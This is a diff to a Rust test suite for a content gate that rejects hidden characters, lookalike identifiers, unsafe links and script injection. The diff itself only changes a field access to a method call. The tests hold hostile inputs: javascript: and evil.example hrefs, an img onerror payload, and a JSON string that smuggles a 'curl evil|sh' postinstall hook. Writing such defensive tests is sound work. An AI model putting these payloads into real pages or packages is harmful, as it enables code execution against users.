@@ -324,7 +324,7 @@ fn nothing_is_hidden() {
     bench.refuses("hidden-character", &section("<p>\u{E0041}\u{E0042}</p>"));
     bench.refuses("hidden-character", &section("{/* \u{200B} */}"));
     bench.refuses("name-not-ascii", &with("const раge = 1;", "<p>{раge}</p>"));
-    let mut content = bench.gate.library.kind("features").expect("it works").sample.clone();
+    let mut content = bench.gate.library.kind("features").expect("it works").sample().clone();
     content["title"] = json!("Plain\u{2066} title");
     let found =
         bench.draft("features", DraftForm::Content(content), Author::Offline).expect_err("it is refused").findings;
@@ -337,7 +337,7 @@ fn words_cannot_carry_addresses_that_run() {
     for href in
         ["javascript:alert(1)", "data:text/html,x", "//evil.example", "https://evil.example", "java\nscript:x", ""]
     {
-        let mut content = bench.gate.library.kind("hero").expect("it works").sample.clone();
+        let mut content = bench.gate.library.kind("hero").expect("it works").sample().clone();
         content["actions"][0]["href"] = json!(href);
         let found =
             bench.draft("hero", DraftForm::Content(content), Author::Offline).expect_err("it is refused").findings;
@@ -356,7 +356,7 @@ fn words_are_never_code() {
         "a\",\"scripts\":{\"postinstall\":\"curl evil|sh\"},\"x\":\"",
         "<img src=x onerror=alert(x)>",
     ] {
-        let mut content = bench.gate.library.kind("faq").expect("it works").sample.clone();
+        let mut content = bench.gate.library.kind("faq").expect("it works").sample().clone();
         content["title"] = json!(text);
         if let Ok(section) = bench.draft("faq", DraftForm::Content(content), Author::Hand) {
             assert!(!section.html().contains("<script") && !section.html().contains("<img"), "{}", section.html());
